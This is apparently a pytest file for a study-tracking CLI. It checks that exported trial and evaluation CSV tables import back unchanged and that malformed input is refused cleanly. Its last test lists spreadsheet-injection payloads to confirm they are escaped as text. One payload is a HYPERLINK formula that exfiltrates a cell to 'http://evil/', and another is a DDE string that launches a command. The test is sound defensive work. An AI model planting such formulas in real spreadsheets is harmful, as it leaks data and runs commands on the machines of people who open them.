"""What `playbook export` wrote, imported again."""

from __future__ import annotations

import csv
import shutil

import pytest

from playbook_cli.storage.store import Store

PROGRAM = """
def train(trial):
    if trial.params["x"] > 0.8: raise ValueError("too much, \\"really\\"")
    for step in trial.steps():
        if trial.should_evaluate(step):
            accuracy = float("nan") if trial.params["x"] < 0.2 else trial.params["x"] - abs(step - 4)
            trial.report(step, train_loss=1.0 / step, accuracy=accuracy, trial=3.0)
"""


@pytest.fixture(scope="module")
def recorded(tmp_path_factory):
    return tmp_path_factory.mktemp("exported") / "study"


@pytest.fixture
def exported(bench, recorded):
    """A study with arms, repeats, conditions, constants of many kinds, infeasible and failed trials; a copy of it."""
    if recorded.exists():
        shutil.copytree(recorded, bench.folder, dirs_exist_ok=True)
        return bench
    bench.study(
        PROGRAM,
        metric={"name": "accuracy", "goal": "maximize"},
        max_train_steps=6,
        trials=16,
        resources={"retries": 0},
        scientific={"optimizer": {"values": ["sgd", "none"]}},
        nuisance={
            "x": {"min": 0.0, "max": 1.0},
            "lr": {"min": 1e-6, "max": 1.0, "scale": "log", "when": {"optimizer": "sgd"}},
            "flag": {"values": [True, False, None]},
        },
        fixed={"width": 3, "betas": [0.9, 0.999], "version": "007"},
    )
    bench("run", "study.yaml", "--jobs", 2)
    assert bench("repeat", "runs/toy", "--top", 1, "--seeds", 2).code == 0
    assert bench("export", "runs/toy").code == 0
    shutil.copytree(bench.folder, recorded)
    return bench


def told(folder):
    record = Store(folder).record()
    return [
        (t.id, t.params, t.arm, t.seed, t.repeat_of, t.state, t.best and (t.best.value, t.best.step))
        for t in record.trials
    ]


@pytest.mark.slow
@pytest.mark.parametrize("source", ["runs/toy/export", "runs/toy/export/trials.csv"])
def test_an_exported_study_comes_back_as_it_was(exported, source):
    answer = exported("import", source, "--into", "runs/again", "--study", "study.yaml")
    assert answer.code == 0, answer.err
    before = told(exported.folder / "runs/toy")
    assert {state for *_, state, _ in before} == {"completed", "infeasible", "failed"}
    assert told(exported.folder / "runs/again") == before
    assert exported("export", "runs/again").code == 0
    for name in ("trials.csv", "evaluations.csv"):
        first, second = (exported.folder / f"runs/{run}/export/{name}" for run in ("toy", "again"))
        assert second.read_text() == first.read_text()


def test_without_its_study_file_the_metric_is_told_from_the_values_of_the_trials(exported):
    answer = exported("import", "runs/toy/export", "--into", "runs/again")
    assert answer.code == 0, answer.err
    assert "--study STUDY.YAML" in answer.err
    store = Store(exported.folder / "runs/again")
    assert (store.metric.name, store.metric.goal) == ("accuracy", "maximize")
    best = exported("status", "runs/toy", "--json").json["best"]
    assert exported("status", "runs/again", "--json").json["best"] == best


@pytest.mark.parametrize(
    ("kept", "message"),
    [
        ("evaluations.csv", "this table has only the evaluations of a study; its trials are in trials.csv"),
        ("trials.csv", "this table has only the trials of a study; their evaluations are in evaluations.csv"),
    ],
)
def test_one_of_the_two_tables_alone_is_refused(exported, kept, message):
    folder = exported.folder / "alone"
    folder.mkdir()
    (folder / kept).write_bytes((exported.folder / "runs/toy/export" / kept).read_bytes())
    for source in ("alone", f"alone/{kept}"):
        answer = exported("import", source, "--into", "runs/again")
        assert answer.code == 2
        assert f"alone/{kept}: {message}" in answer.err
    assert exported("import", "runs/toy/export/evaluations.csv", "--into", "runs/again").code == 2
    assert not (exported.folder / "runs/again").exists()


def test_tables_in_another_form_are_refused_with_the_command_for_csv(exported):
    exported("export", "runs/toy", "--to", "lines", "--format", "jsonl")
    for source in ("lines", "lines/trials.jsonl"):
        answer = exported("import", source, "--into", "runs/again")
        assert answer.code == 2
        assert "only CSV tables" in answer.err
        assert "playbook export RUNS/NAME --to FOLDER" in answer.err


@pytest.mark.parametrize("cell", ["[[1]]", "[" * 5000, "[1", "9" * 5000, "1e999", "nan", "1_0", ""])
def test_cells_that_no_study_exports_are_no_traceback(exported, cell):
    table = exported.folder / "runs/toy/export/trials.csv"
    head, row, *rest = table.read_text().splitlines()
    cells = row.split(",")
    at = head.split(",").index("params.width")
    for column in (at, 3, 6, 7, 8):
        changed = ",".join([*cells[:column], cell, *cells[column + 1 :]])
        table.write_text("\n".join([head, changed, *rest, ""]))
        answer = exported("import", "runs/toy/export", "--into", f"runs/again{column}")
        assert answer.code in (0, 2)
        assert "Traceback" not in answer.err


def test_other_tables_of_these_names_are_refused_where_they_are_said_to_be_exported(exported):
    (exported.folder / "runs/toy/export/evaluations.csv").write_text("a,b\n1,2\n")
    answer = exported("import", "runs/toy/export", "--into", "runs/again")
    assert answer.code == 2
    assert "runs/toy/export: these tables were not written by playbook export" in answer.err


FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "'=1", "+x", "\t=1"]


def test_formulas_are_text_in_the_tables_and_come_back_as_they_were(bench):
    bench.study(
        """
        def train(trial):
            for step in trial.steps():
                if trial.should_evaluate(step):
                    trial.report(step, val_error=-1.0 / step, **{"=1+1": -3.0})
        """,
        trials=len(FORMULAS),
        sampler="grid",
        nuisance={"x": {"values": FORMULAS}},
    )
    assert bench("run", "study.yaml").code == 0
    assert bench("export", "runs/toy").code == 0
    with (bench.folder / "runs/toy/export/trials.csv").open(newline="") as file:
        trials = list(csv.DictReader(file))
    with (bench.folder / "runs/toy/export/evaluations.csv").open(newline="") as file:
        evaluations = list(csv.DictReader(file))
    assert [row["params.x"] for row in trials] == [f"'{text}" for text in FORMULAS]
    assert {row["value"] for row in trials} == {"-0.5"}
    assert set(evaluations[0]) == {"trial", "step", "val_error", "'=1+1"}
    assert {row["'=1+1"] for row in evaluations} == {"-3.0"}
    assert bench("import", "runs/toy/export", "--into", "runs/again", "--study", "study.yaml").code == 0
    assert told(bench.folder / "runs/again") == told(bench.folder / "runs/toy")
    assert set(Store(bench.folder / "runs/again").record().trials[0].curve.values) == {"val_error", "=1+1"}
    assert bench("export", "runs/again").code == 0
    for name in ("trials.csv", "evaluations.csv"):
        first, second = (bench.folder / f"runs/{run}/export/{name}" for run in ("toy", "again"))
        assert second.read_text() == first.read_text()
